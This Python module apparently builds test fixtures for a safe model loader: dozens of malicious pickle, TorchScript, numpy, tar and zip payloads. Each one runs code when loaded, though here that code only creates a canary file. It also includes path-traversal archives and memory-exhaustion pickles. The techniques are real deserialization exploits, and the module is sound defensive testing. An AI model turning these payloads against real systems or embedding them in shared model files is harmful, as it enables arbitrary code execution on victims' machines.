"""Pickles that do harm when they are read, each in another way: they make one file, the canary."""

from __future__ import annotations

import builtins
import functools
import importlib
import io
import os
import pathlib
import pickle
import runpy
import shutil
import struct
import subprocess
import tarfile
import zipfile
from collections import OrderedDict
from collections.abc import Callable
from typing import Any

import numpy as np
import torch

Payload = Callable[[str], bytes]


class _Call:
    """Calls a function when it is read."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.function, self.arguments = function, arguments

    def __reduce__(self) -> tuple[Any, ...]:
        return self.function, self.arguments


def _calling(function: Callable[..., Any], *arguments: object) -> Payload:
    """Call with arguments in which FILE stands for the canary."""

    def make(canary: str) -> bytes:
        filled = [a.replace("FILE", canary) if isinstance(a, str) else a for a in arguments]
        return pickle.dumps({"weight": _Call(function, *filled)}, protocol=2)

    return make


def _raw(text: str) -> Payload:
    """Opcodes by hand."""
    return lambda canary: text.replace("FILE", canary).encode("latin-1")


def _with_setstate(canary: str) -> bytes:
    class Innocent(dict):  # type: ignore[type-arg]
        def __reduce__(self) -> tuple[Any, ...]:
            return OrderedDict, (), None, None, iter([("weight", _Call(os.system, f"touch {canary}"))])

    return pickle.dumps(Innocent(), protocol=2)


def _after_the_stop(canary: str) -> bytes:
    harmless = pickle.dumps({"weight": 1}, protocol=2)
    return harmless + pickle.dumps(_Call(os.system, f"touch {canary}"), protocol=2)


def _state_of(canary: str) -> bytes:
    """BUILD hands a state to an allowed class's object."""
    evil = pickle.dumps(_Call(os.system, f"touch {canary}"), protocol=2)[2:-1]
    return b"\x80\x02ccollections\nOrderedDict\n)R" + evil + b"b."


def _nested_load(canary: str) -> bytes:
    """A tensor's storage used to be read by a function that reads any pickle."""
    inner = pickle.dumps(_Call(os.system, f"touch {canary}"), protocol=2)
    return pickle.dumps({"weight": _Call(torch.storage._load_from_bytes, inner)}, protocol=2)


def _tensor_of(canary: str) -> bytes:
    """A tensor whose backward hooks are a call."""
    hooks = OrderedDict(a=_Call(os.system, f"touch {canary}"))
    rebuild = torch._utils._rebuild_tensor_v2
    return pickle.dumps(
        {"w": _Call(rebuild, _Call(os.system, f"touch {canary}"), 0, (1,), (1,), False, hooks)}
    )


def _array(canary: str) -> bytes:
    content = io.BytesIO()
    array = np.array([_Call(os.system, f"touch {canary}")], dtype=object)
    np.save(content, array, allow_pickle=True)
    return content.getvalue()


def _tar(canary: str) -> bytes:
    """The oldest format of torch: an archive, here with a link that leads out of it."""
    content = io.BytesIO()
    with tarfile.open(fileobj=content, mode="w") as archive:
        link = tarfile.TarInfo("storages")
        link.type, link.linkname = tarfile.SYMTYPE, canary
        archive.addfile(link)
        evil = pickle.dumps(_Call(os.system, f"touch {canary}"))
        entry = tarfile.TarInfo("pickle")
        entry.size = len(evil)
        archive.addfile(entry, io.BytesIO(evil))
    return content.getvalue()


def _script(canary: str) -> bytes:
    """An archive of TorchScript, whose code runs when it is loaded."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        archive.writestr("m/data.pkl", pickle.dumps(_Call(os.system, f"touch {canary}"), protocol=2))
        archive.writestr("m/constants.pkl", pickle.dumps((), protocol=2))
        archive.writestr("m/code/__torch__.py", f"op_version_set = 1\n# touch {canary}\n")
        archive.writestr("m/version", "6\n")
    return content.getvalue()


def _escaping_zip(canary: str) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        archive.writestr(f"../../../../../../../..{canary}", "here")
        archive.writestr("archive/data.pkl", pickle.dumps(_Call(os.system, f"touch {canary}"), protocol=2))
        archive.writestr("archive/version", "3\n")
    return content.getvalue()


def zipped(pickled: bytes) -> bytes:
    """As torch stores it today."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        archive.writestr("archive/data.pkl", pickled)
        archive.writestr("archive/byteorder", "little")
        archive.writestr("archive/version", "3\n")
    return content.getvalue()


def legacy(pickled: bytes) -> bytes:
    """As torch stored it before 1.6: magic number, version, system, then the object."""
    head = [0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001, "little_endian": True, "type_sizes": {}}]
    return b"".join(pickle.dumps(part, protocol=2) for part in head) + pickled + pickle.dumps([], protocol=2)


PLAIN: dict[str, Payload] = {
    "os.system": _calling(os.system, "touch FILE"),
    "subprocess.call": lambda canary: pickle.dumps(_Call(subprocess.call, ["touch", canary])),
    "subprocess.check_output": lambda canary: pickle.dumps(_Call(subprocess.check_output, ["touch", canary])),
    "exec": _calling(builtins.exec, "open('FILE', 'w').close()"),
    "eval": _calling(builtins.eval, "open('FILE', 'w').close()"),
    "compile": _calling(builtins.compile, "open('FILE', 'w')", "x", "exec"),
    "open": _calling(builtins.open, "FILE", "w"),
    "__import__": _calling(builtins.__import__, "antigravity"),
    "getattr": _raw("c__builtin__\ngetattr\n(cos\nsystem\nS'__call__'\ntR(S'touch FILE'\ntR."),
    "os.mkdir": _calling(os.mkdir, "FILE"),
    "shutil.copy": _calling(shutil.copy, "/etc/hostname", "FILE"),
    "pathlib.Path.touch": lambda canary: pickle.dumps(_Call(pathlib.Path.touch, pathlib.Path(canary))),
    "runpy.run_path": _calling(runpy.run_path, "FILE"),
    "importlib": _calling(importlib.import_module, "this"),
    "functools.partial": lambda canary: pickle.dumps(_Call(functools.partial(os.system, f"touch {canary}"))),
    "posix.system": _raw("cposix\nsystem\n(S'touch FILE'\ntR."),
    "stack global": _raw("\x80\x04\x8c\x02os\x8c\x06system\x93S'touch FILE'\n\x85R."),
    "INST": _raw("(S'touch FILE'\nios\nsystem\n."),
    "OBJ": _raw("(cos\nsystem\nS'touch FILE'\no."),
    "NEWOBJ": _raw("\x80\x02c_io\nFileIO\n(S'FILE'\nS'w'\nt\x81."),
    "a call in the items": _with_setstate,
    "a call after the end": _after_the_stop,
    "a call as state": _state_of,
    "torch's own loader": _nested_load,
    "a tensor with hooks": _tensor_of,
    "torch.hub": _calling(torch.hub.load, "FILE", "model"),
    "torch.jit": _calling(torch.jit.load, "FILE"),
    "pickle in pickle": lambda canary: pickle.dumps(
        _Call(pickle.loads, pickle.dumps(_Call(os.system, f"touch {canary}")))
    ),
    "pathlib": lambda canary: pickle.dumps(_Call(pathlib.Path.write_text, pathlib.Path(canary), "x")),
    "protocol 5": lambda canary: pickle.dumps([_Call(os.system, f"touch {canary}")] * 99, protocol=5),
}  # fmt: skip

WHOLE: dict[str, Payload] = {
    "an array of objects": _array,
    "a tar": _tar,
    "TorchScript": _script,
    "an archive with a path out": _escaping_zip,
    "deep nesting": lambda canary: zipped(b"\x80\x02" + b"]" * 20_000 + b"a" * 19_999 + b"."),
    "a claim of terabytes": lambda canary: zipped(
        b"\x80\x02\x8e" + struct.pack("<Q", 2**44) + b"x" * 64 + canary.encode() + b"."
    ),
}


def payloads() -> dict[str, Payload]:
    """All of them, in torch's present container, in its former one, and bare."""
    found: dict[str, Payload] = dict(WHOLE)
    containers = {"zip": zipped, "legacy": legacy, "bare": bytes}
    for number, (name, payload) in enumerate(PLAIN.items()):
        # Each in one container, in turn, and the first few in all.
        chosen = list(containers) if number < 3 else [list(containers)[number % 3]]
        for kind in chosen:
            wrap = containers[kind]
            found[f"{name} ({kind})"] = lambda canary, p=payload, w=wrap: w(p(canary))  # type: ignore[misc]
    return found
